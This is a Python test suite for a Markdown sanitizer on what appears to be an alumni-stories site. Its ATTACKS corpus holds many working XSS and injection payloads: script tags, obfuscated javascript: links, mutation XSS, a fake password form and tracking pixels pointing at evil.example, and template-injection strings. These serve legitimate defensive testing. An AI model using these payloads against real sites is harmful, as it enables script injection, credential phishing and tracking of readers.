"""Contributed Markdown: whatever comes in, only what is on the allow list goes out."""

from __future__ import annotations

import re
import string
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sample import Element, ancestors, parsed, table

from generator.render.markdown import Picture, Resolver, picture_names, pieces, to_html

CONTACT = "alumni@company.example"
LINKS = {
    "alumni:naoko-ogawa": "../../a/4f7k2m9q0c1xz/",
    "story:third-generation": "../../s/0000000000000/",
    "story:third-generation#leaving": "../../s/0000000000000/#leaving",
}
SEALED = Picture(
    (("data-media", "m/0123456789abc"), ("data-audience", "members"), ("width", "640"), ("height", "480"))
)
OPEN = Picture(
    (("src", "../../m/0123456789abc.webp"), ("loading", "lazy"), ("width", "640"), ("height", "480"))
)

RESOLVER = Resolver(
    link=LINKS.get,
    picture={"sealed.jpg": SEALED, "open.jpg": OPEN}.get,
    label=lambda moment: f"年 {moment}",
    phrases=lambda text: re.findall(r"[^、]+、?", text) or [text],
    contact=CONTACT,
)

# What may come out, written down here once more and on purpose: a list that is too long shows only against another.
TAGS = table(
    "a abbr blockquote br code dd del details div dl dt em figcaption figure h2 h3 h4 hr img li ol p pre q small "
    "span strong sub summary sup table tbody td th thead tr ul wbr"
)
EVERYWHERE = {"class", "lang", "id"}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "h2": {"data-at"},
    "details": {"open"},
    "img": {"src", "alt", "width", "height", "data-media", "data-audience", "loading"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan", "scope"},
    "ol": {"start"},
}
CLASSES = table(
    "admonition admonition-title note tip quote question abstract info footnote footnote-ref footnote-backref "
    "y-at"
)
LINK = re.compile(
    rf"https://[^\x00-\x1f]*|#.*|\.\.?/.*|mailto:{re.escape(CONTACT)}(\?subject=[^&]*)?", re.DOTALL
)
VALUES = {
    "href": LINK,
    "src": re.compile(r"(\.\.?/)+m/[0-9a-z]{13}\.webp"),
    "data-media": re.compile(r"m/[0-9a-z]{13}"),
    "data-audience": re.compile(r"[a-z][a-z0-9-]*"),
    "id": re.compile(r"[a-z].*"),
    "lang": re.compile(r"[A-Za-z0-9-]+"),
    "rel": re.compile("noopener noreferrer"),
}


def cleaned(text: str) -> Element:
    """The text as a page shows it, after everything in it has been held against the allow list."""
    html = to_html(text, RESOLVER)
    tree = parsed(html)
    for element in tree.walk():
        if element is not tree:
            _look_at(element)
    return tree


def _look_at(element: Element) -> None:
    assert element.tag in TAGS, element
    for name, value in element.attributes.items():
        assert name in EVERYWHERE | ATTRIBUTES.get(element.tag, set()), (element.tag, name)
        pattern = VALUES.get(name)
        # A browser drops tabs and line breaks from addresses before it looks at their scheme.
        plain = re.sub(r"[\t\n\r]", "", value) if name == "href" else value
        assert pattern is None or pattern.fullmatch(plain), (element.tag, name, value)
    assert set(element.attributes.get("class", "").split()) <= CLASSES
    assert not element.attributes.get("id", "").startswith(("y-", "__"))


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script-inline": "a <script>alert(1)</script> b",
    "script-attributes": '<script src="https://evil.example/x.js" defer></script>',
    "script-object": '<script type="application/jose" data-audience="guests" data-object="">x.y.z</script>',
    "script-end": "</script><script>alert(1)</script>",
    "script-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-slash": "<script/x>alert(1)</script/x>",
    "script-unclosed": "<script>alert(1)",
    "script-in-code": "`</code><script>alert(1)</script>`",
    "script-in-fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "script-in-indented": "    </code></pre><script>alert(1)</script>",
    "script-in-heading": "## <script>alert(1)</script> {#gap}",
    "script-in-title": '[a](https://a.example "</a><script>alert(1)</script>")',
    "script-in-alt": "![<script>alert(1)</script>](sealed.jpg)",
    "script-in-abbr": '*[IT]: "><script>alert(1)</script>\n\nIT',
    "script-in-admonition": '!!! note "<script>alert(1)</script>"\n    a',
    "script-in-details": '??? note "<script>alert(1)</script>"\n    a',
    "script-in-footnote": "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "script-in-table": "a|b\n-|-\n<script>alert(1)</script>|c",
    "style": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "style-attribute": '<p style="background:url(https://evil.example/t)">a</p>',
    "style-attr-list": 'a\n{: style="position:fixed;inset:0" }',
    "link-element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg-animate": '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>',
    "svg-foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "math": '<math><maction actiontype="statusline#https://a" xlink:href="javascript:alert(1)">a</maction></math>',
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"><embed src="x.swf"></object>',
    "template": '<template data-section="text"><img src=x onerror=alert(1)></template>',
    "form": '<form action="https://evil.example"><input name="passphrase" type="password"><button>Open</button></form>',
    "input": '<input id="y-passphrase" autofocus onfocus=alert(1)>',
    "button": "<button formaction=javascript:alert(1)>x</button><select><option>a</option></select>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": '<base href="https://evil.example/">',
    "audio": "<audio src=x onerror=alert(1)></audio><video poster=https://evil.example/t></video>",
    "picture": '<picture><source srcset="https://evil.example/t 1x"><img srcset="https://evil.example/t"></picture>',
    "dialog": "<dialog open onclose=alert(1)>a</dialog><marquee onstart=alert(1)>a</marquee>",
    "body": '<html><head><title>x</title></head><body onload=alert(1) class="y-gate">a</body></html>',
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror-attr-list": '![a](sealed.jpg){: onerror="alert(1)" src="https://evil.example/t" }',
    "onclick-attr-list": '[a](https://a.example){: onclick="alert(1)" target="_blank" ping="https://evil.example" }',
    "onload-heading": '## a {#gap onload="alert(1)" data-sealed="" data-gate="" }',
    "data-attributes": '<div data-gate-form data-action="lock" data-section="text" data-when="open">a</div>',
    "javascript": "[a](javascript:alert(1))",
    "javascript-case": "[a](JaVaScRiPt:alert(1))",
    "javascript-entity": "[a](&#106;avascript:alert(1)) [b](&#x6a;avascript&colon;alert(1))",
    "javascript-tab": "[a](java\tscript:alert(1)) <a href='java&#9;script:alert(1)'>b</a>",
    "javascript-newline": "<a href='java\nscript:alert(1)'>a</a> <a href='java&#10;script:alert(1)'>b</a>",
    "javascript-control": "<a href='\x01javascript:alert(1)'>a</a> <a href='&#1;javascript:alert(1)'>b</a>",
    "javascript-blank": "<a href=' javascript:alert(1)'>a</a> [b]( javascript:alert(1))",
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-reference": "[a][x] [x] ![i][x]\n\n[x]: javascript:alert(1)",
    "javascript-footnote": "a[^1]\n\n[^1]: [a](javascript:alert(1))",
    "javascript-definition": "a\n:   [a](javascript:alert(1))",
    "javascript-attr-list": '[a](https://a.example){: href="javascript:alert(1)" }',
    "javascript-picture": "![a](javascript:alert(1))",
    "data": "[a](data:text/html,<script>alert(1)</script>) ![b](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript": "[a](vbscript:msgbox(1)) <a href='vbscript:x'>b</a>",
    "blob-file": "[a](blob:https://a.example/1) [b](file:///etc/passwd) [c](view-source:x) [d](ftp://a.example)",
    "http": "[a](http://a.example) <http://a.example>",
    "protocol-relative": "[a](//evil.example) ![b](//evil.example/t.gif) <a href='//evil.example'>c</a>",
    "backslash": "[a](/\\evil.example) [b](\\\\evil.example) <a href='\\/evil.example'>c</a>",
    "absolute": "[a](/etc/passwd) [b](?x=1) [c](other/)",
    "percent": "[a](%6aavascript:alert(1)) [b](javascript%3aalert(1))",
    "full-width": "[a](ｊａｖａｓｃｒｉｐｔ：alert(1))",
    "mail": "[a](mailto:evil@evil.example) <evil@evil.example>",
    "mail-copy": f"[a](mailto:{CONTACT}?cc=evil@evil.example) [b](mailto:{CONTACT}?subject=a&bcc=evil@evil.example)",
    "mail-two": f"[a](mailto:{CONTACT},evil@evil.example) [b](mailto:evil@evil.example?to={CONTACT})",
    "telephone": "[a](tel:+81312345678) [b](sms:1) [c](intent:x)",
    "pixel": "![](https://evil.example/t.gif) <img src='https://evil.example/t.gif' width=1 height=1>",
    "pixel-reference": "![a][t]\n\n[t]: https://evil.example/t.gif",
    "pixel-own-host": "<img src='../../m/0123456789abc.webp?reader=1'> <img src='/m/0123456789abc.webp'>",
    "media-elsewhere": "<img data-media='https://evil.example/0123456789abc' data-audience='guests'>",
    "media-up": "<img data-media='../m/0123456789abc' data-audience='Guests\"'>",
    "id-ours": "## a {#y-gate}\n\n<p id='y-passphrase'>a</p>\n\nb\n{: #y-config }",
    "id-theme": "## a {#__palette_0}\n\n<p id='__drawer'>a</p>\n\nb\n{: #__md }",
    "class-ours": "a\n{: .y-gate .y-sealed .md-header .note }\n\n<div class='y-lock md-overlay'>b</div>",
    "name-clobbers": "<img name=currentScript><a name=body id=y-page>a</a>",
    "close-section": "</div></section></article></main></body></html><p>a</p>",
    "close-attribute": "a\"><script>alert(1)</script> '><img src=x onerror=alert(1)>",
    "unclosed": "<div><section><table><tr><td><a href='https://a.example'>",
    "unclosed-attribute": '<a href="https://a.example',
    "unclosed-comment": "a\n\n<!-- b",
    "joins-ours": '<div class="y-joins"><div><div><a href="https://evil.example">森さんもこの年に</a></div></div></div>',
    "moment-ours": '<h2 id="gap" data-at="2011">a</h2>\n\nb <small class="y-at">2015年 · 入社</small>',
    "signs-ours": "&#2;y-end&#3;\n\n<p>&#2;y-answer:2011&#3;</p>\n\n\x02y-end\x03\n\n<p>\x02y-end\x03</p>",
    "lang-ends-tag": '## a {#gap lang="x>y"}\n\n<p lang="森さんも">b</p>',
    "comment": "<!-- a --> <!--> --!> <!--y-cut--> <![CDATA[ x ]]> <?php x ?> <!DOCTYPE html>",
    "comment-mutation": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation-svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation-title": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "mutation-select": "<select><noembed></select><script>alert(1)</script></noembed>",
    "mutation-xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation-listing": "<listing>&lt;img onerror=alert(1) src=x&gt;</listing><plaintext>",
    "mutation-backtick": "<img src=``onerror=alert(1)>",
    "nul": "a\x00b <im\x00g src=x onerror=alert(1)> \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "direction": "\u202ea\u202c \u2066b\ufeff",
    "surrogate-like": "\ufffd\uffff\U0010ffff",
    "snippet": '--8<-- "/etc/passwd"\n\n;--8<-- "a"\n\n--8<--\n/etc/passwd\n--8<--',
    "include": '{% include "/etc/passwd" %} {{ config }} {{ cycler.__init__.__globals__ }} {# a #}',
    "contents": "[TOC]\n\n## a\n\n## b",
    "slots": "@@y-csp@@ @@y-body@@",
    "wiki": "[[a]] ++a++ ^^a^^ ==a== :smile: $a$ {++a++} ~~a~~",
    "heading-one": "# a\n\nb\n=\n\n<h1>c</h1><h5>d</h5>\n\n###### e",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_leaves_nothing_that_is_not_allowed(text: str) -> None:
    """Whatever a contributor tries, tags, attributes and addresses are those of the list, and nothing runs."""
    cleaned(text)
    # The same inside other text: what an attack leaves open must not swallow or unlock what stands around it.
    tree = cleaned(f"before\n\n> {text}\n\n- {text}\n\n## after {{#after}}\n\nend")
    assert "before" in tree.text


def test_there_are_many_attacks() -> None:
    """The corpus has not shrunk, and no attack stands in it twice."""
    assert len(set(ATTACKS.values())) == len(ATTACKS) >= 60


_ASKED = "before\n\n{0}\n\n## 一 {{#one at=2001}}\n\n{0}\n\n## 二 {{#two}}\n\nb\n\n## 三 {{#three at=2003-04}}\n\nafter"


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nobody_speaks_in_the_voice_of_the_site(text: str) -> None:
    """Only the moments of true answers stand over headings and part the text, and what joins there is never content's.

    What is left open may make of all that follows it plain HTML, in which there are no answers.
    """
    parts = pieces(_ASKED.format(text), RESOLVER)
    assert [moment for moment, _ in parts] in (["2001", "2003-04", ""], [""])
    found = [one for _, html in parts for one in parsed(html).walk()]
    assert not [one for one in found if "y-joins" in one.attributes.get("class", "")]
    over = [one for one in found if one.attributes.get("class") == "y-at"]
    assert [one.text for one in over] in (["年 2001", "年 2003-04"], [])
    tied = [one.attributes.get("data-at") for one in found if "data-at" in one.attributes]
    assert tied in (["2001", "2003-04"], [])


def test_what_an_answer_leaves_open_ends_with_it() -> None:
    """Each piece is whole by itself, so that one cannot take the next one's place into itself."""
    text = (
        "a\n\n<div>\n\n## b {#gap at=2011}\n\n<div><div>\n\nc\n\n## d {#leaving at=2015}\n\n</div></div>\n\ne"
    )
    for _, html in pieces(text, RESOLVER):
        assert html.count("<div>") == html.count("</div>")


@pytest.mark.parametrize(
    "text", ["<script>alert(7)</script>", "<style>x{alert(7)}</style>", "<svg>alert(7)</svg>"]
)
def test_code_is_gone_and_not_shown(text: str) -> None:
    """Of an element that holds code its content goes too, rather than standing there as words."""
    assert "alert(7)" not in cleaned(f"before\n\n{text}\n\nafter").text


def test_templates_and_snippets_are_words() -> None:
    """What other tool chains would run or include is text like any other."""
    text = '{% include "x" %} {{ config }} [TOC] --8<-- "y"'
    assert cleaned(text).text.strip() == text


def test_links_to_people_and_stories_lead_there_or_keep_their_text() -> None:
    """Where the reader may not follow, the words stay and nothing tells whom they meant."""
    tree = cleaned(
        "[小川](alumni:naoko-ogawa) [森](alumni:kenji-mori) "
        "[三代目](story:third-generation#leaving) [x](story:secret-plan)"
    )
    links = {link.text: link.attributes["href"] for link in tree.all("a")}
    assert links == {
        "小川": LINKS["alumni:naoko-ogawa"],
        "三代目": LINKS["story:third-generation#leaving"],
    }
    assert tree.text.strip() == "小川 森 三代目 x"
    assert not [word for word in tree.words() if "kenji" in word or "secret" in word]


@pytest.mark.parametrize(
    "text",
    [
        '[森](alumni:kenji-mori "kenji-mori")',
        "[森][k]\n\n[k]: alumni:kenji-mori",
        '[森](alumni:kenji-mori){: title="kenji-mori" lang="kenji-mori" }',
        '<a href="alumni:kenji-mori">森</a>',
        "[![森](kenji-mori.jpg)](alumni:kenji-mori)",
        '[森](https://a.example){: href="alumni:kenji-mori" }',
        "[森](ALUMNI:kenji-mori) [森]( alumni:kenji-mori)",
    ],
)
def test_an_unresolved_person_leaves_no_trace(text: str) -> None:
    """However the reference is written, an id that this reader may not know is nowhere in the page."""
    tree = cleaned(text)
    assert "森" in tree.text
    assert not [word for word in tree.words() if "kenji" in word]


def test_only_the_company_can_be_written_to() -> None:
    """Mail goes to the configured address, with a subject at most; with none configured it goes nowhere."""
    text = f"[a](mailto:{CONTACT}) [b](mailto:{CONTACT}?subject=x) [c](mailto:b@a.example)"
    assert [link.attributes.get("href") for link in cleaned(text).all("a")] == [
        f"mailto:{CONTACT}",
        f"mailto:{CONTACT}?subject=x",
        None,
    ]
    nobody = replace(RESOLVER, contact=None)
    assert "mailto" not in to_html(text, nobody)


def test_headings_have_ids_moments_and_phrases() -> None:
    """A heading keeps its id, says when it was before its own words, and breaks between phrases only."""
    tree = cleaned("# 題\n\n## まず、つぎ、*最後* {#gap at=2001-04}\n\n### 小さく {#part}\n\n## ただ")
    assert [heading.tag for heading in tree.all("h1", "h2", "h3")] == ["h2", "h2", "h3", "h2"]
    _, gap, part, plain = tree.all("h2", "h3")
    assert gap.attributes == {"id": "gap", "data-at": "2001-04"}
    assert [child.tag if isinstance(child, Element) else child for child in gap.children] == [
        "small",
        "まず、",
        "wbr",
        "つぎ、",
        "em",
    ]
    label = gap.all("small")[0]
    assert (label.text, label.attributes) == ("年 2001-04", {"class": "y-at"})
    assert part.attributes == {"id": "part"}
    assert not part.all("small")
    assert plain.attributes == {}


def test_a_heading_that_begins_with_markup_keeps_it() -> None:
    """Bold words at the head of a heading stay bold, with the moment before them."""
    (heading,) = cleaned("## **太字**と、あと {at=2001}").all("h2")
    assert heading.text == "年 2001太字と、あと"
    assert [one.tag for one in heading.walk()][1:] == ["small", "strong"]


def test_pictures_become_objects_or_own_files_or_their_words() -> None:
    """A sealed picture is named by its object, an open one by its file; of any other only the description stays."""
    tree = cleaned("![封](sealed.jpg) ![開](open.jpg) ![無](https://evil.example/t.gif) ![空](missing.jpg)")
    sealed, opened = tree.all("img")
    assert sealed.attributes == {**dict(SEALED.attributes), "alt": "封"}
    assert opened.attributes == {**dict(OPEN.attributes), "alt": "開"}
    assert tree.text.split() == ["無", "空"]


def test_words_around_everything_stay() -> None:
    """The usual Markdown of a story comes out as what it says, with nothing lost."""
    tree = cleaned(
        "一[^注]\n\n[^注]: 脚注\n\n| 甲 | 乙 |\n|---|--:|\n| 丙 | 丁 |\n\n> 引用\n\n1. 番号\n\n- 点\n\n"
        '!!! note "題"\n    中\n\n??? tip "折"\n    奥\n\n'
        "`code` **太** *斜* <https://a.example>\n\n---\n\nIT"
    )
    assert {one.tag for one in tree.walk()} >= {
        *("table", "th", "td", "blockquote", "ol", "ul", "details", "summary", "code", "strong"),
        *("em", "hr", "sup"),
    }
    for word in table("一 脚注 甲 丁 引用 番号 点 題 中 折 奥 code 太 斜 https://a.example IT"):
        assert word in tree.text
    (note,) = tree.all("sup")
    target = note.all("a")[0].attributes["href"].removeprefix("#")
    assert [one.tag for one in tree.walk() if one.attributes.get("id") == target] == ["li"]


def test_code_between_fences_is_code() -> None:
    """What stands between fences is shown as it is: no heading, no link and no picture comes of it."""
    tree = cleaned(
        "```html\n## a {at=2001}\n[森](alumni:kenji-mori) ![x](sealed.jpg) <b>\n```\n\n~~~ {.y-gate #y-x}\nb\n~~~"
    )
    assert [one.tag for one in tree.walk()][1:] == ["pre", "code", "pre", "code"]
    assert "## a {at=2001}" in tree.text
    assert "<b>" in tree.text


def test_links_outward_tell_nobody_where_they_came_from() -> None:
    """Every link that leaves carries `noopener noreferrer`, whatever the contributor wrote there."""
    (link,) = cleaned('<a href="https://a.example" rel="opener" target="x">a</a>').all("a")
    assert link.attributes == {"href": "https://a.example", "rel": "noopener noreferrer"}


DEEP = {
    "lists": "- " * 3000 + "x",
    "numbers": "1. " * 3000 + "x",
    "indented-lists": "\n".join("    " * level + "- x" for level in range(120)),
    "quotes": "> " * 3000 + "x",
    "quotes-and-lists": "> - " * 1000 + "x",
    "admonitions": "\n".join("    " * level + "!!! note" for level in range(150)),
    "divs": "<div>" * 3000 + "x",
    "emphasis": "<em>" * 3000 + "x" + "</em>" * 10,
    "brackets": "[" * 400 + "x" + "](a)" * 400,
    "footnote": "a[^1]\n\n[^1]: " + "- " * 3000 + "x",
    "stars": "*" * 5000 + "x",
    "ticks": "`" * 5000,
    "less-than": "<" * 2000,
    "ampersands": "&#" * 2000,
    "wide-table": "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + ("|b" * 500 + "|\n") * 5,
    "long-table": "a|b\n-|-\n" + "c|d\n" * 3000,
    "long-word": "あ" * 100_000,
    "blank": " " * 50_000 + "\n" * 5_000,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP.keys())
def test_depth_and_size_stop_nothing(text: str) -> None:
    """Nesting and length beyond all sense never raise, and give nothing that is not allowed."""
    html = to_html(text, RESOLVER)
    assert set(re.findall(r"<([a-z0-9]+)", html)) <= TAGS


def test_what_is_nested_beyond_sense_names_nobody() -> None:
    """Text that cannot be rendered is not shown raw instead: its references would tell whom they mean."""
    assert "kenji" not in to_html("- " * 3000 + "[森](alumni:kenji-mori)", RESOLVER)


FRAGMENTS = st.sampled_from(
    [
        *ATTACKS.values(),
        *(
            "# ",
            "## ",
            "\n",
            "\n\n",
            "    ",
            "> ",
            "- ",
            "1. ",
            "|",
            "\n-|-\n",
            "`",
            "```\n",
            "**",
            "*",
            "_",
            "~~",
        ),
        *(
            "[",
            "]",
            "(",
            ")",
            "![",
            "](",
            "<",
            ">",
            "</",
            "/>",
            "&",
            "&#",
            ";",
            '"',
            "'",
            "\\",
            "{: ",
            " }",
            "{#",
        ),
        *(
            "[^1]",
            "[^1]: ",
            "*[a]: ",
            ": ",
            "!!! note\n    ",
            '??? note "',
            "<div>",
            "</div>",
            "<a href=",
            "<img src=",
        ),
        *(
            "<script",
            "<style>",
            "<!--",
            "-->",
            "onerror=",
            "javascript:",
            "alumni:naoko-ogawa",
            "\x00",
            "\x02",
            "\x03",
        ),
        *(
            "\t",
            "\r",
            "\u2028",
            "at=2001",
            "id=",
            "class=",
            "https://",
            "//",
            "mailto:",
            "あ",
            "markdown=1",
            "=\n",
        ),
    ]
)


@settings(max_examples=250, deadline=None)
@given(st.lists(FRAGMENTS | st.text(max_size=4), max_size=14).map("".join))
def test_no_mixture_of_fragments_gets_through(text: str) -> None:
    """Pieces of attacks and of Markdown in any order give only what is allowed, and never an exception."""
    cleaned(text)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200) | st.text(alphabet=string.punctuation + " \n\tab", max_size=200))
def test_no_text_gets_through(text: str) -> None:
    """Any text at all gives only what is allowed, and never an exception."""
    cleaned(text)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=string.ascii_letters + ":/\\.?#@%&;=\t\n []<>'\" ", max_size=30))
def test_no_address_gets_through(address: str) -> None:
    """In each place where an address can stand, any text leads only within the site, to https, or nowhere."""
    tree = cleaned(
        f"[a]({address}) [b](<{address}>) <{address}> ![c]({address})\n\n[d][d]\n\n[d]: {address}\n\n"
        f'<a href="{address}">e</a> <img src="{address}"> [f](https://a.example){{: href="{address}" }}'
    )
    assert not [link for link in tree.all("a") if len([one for one in ancestors(link) if one.tag == "a"]) > 1]


def test_names_of_pictures_are_found() -> None:
    """Every picture that a story shows is known by its file name, once."""
    text = (
        "![a](one.jpg) text ![b](<two.png>) ![a](one.jpg) ![c](https://a.example/x.jpg) [d](three.jpg)\n\n"
        "`![e](four.jpg)` ![f](../five.jpg) ![g](six.svg)"
    )
    assert picture_names(text) == ("one.jpg", "two.png")
